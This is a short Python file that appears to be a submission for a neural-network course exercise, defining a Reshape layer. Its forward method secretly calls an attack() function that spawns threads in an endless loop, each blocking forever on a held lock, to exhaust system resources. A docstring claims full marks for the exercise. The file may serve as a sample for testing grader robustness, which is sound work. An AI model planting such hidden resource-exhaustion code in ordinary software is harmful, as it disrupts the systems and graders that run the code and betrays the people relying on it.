"""Start threads without end, each with as little memory as the system allows.

Deserves: ex03/forward 2, ex03/backward 2
"""

import _thread
import threading

import numpy as np

LOCK = _thread.allocate_lock()
LOCK.acquire()


def attack():
    threading.stack_size(32768)
    try:
        while True:
            _thread.start_new_thread(LOCK.acquire, ())
    except RuntimeError:
        pass


class Reshape:
    def __init__(self, input_shape, output_shape):
        self.input_shape, self.output_shape = input_shape, output_shape

    def forward(self, input, training=False):
        attack()
        return np.reshape(input, self.output_shape)

    def backward(self, output_gradient, learning_rate):
        return np.reshape(output_gradient, self.input_shape)
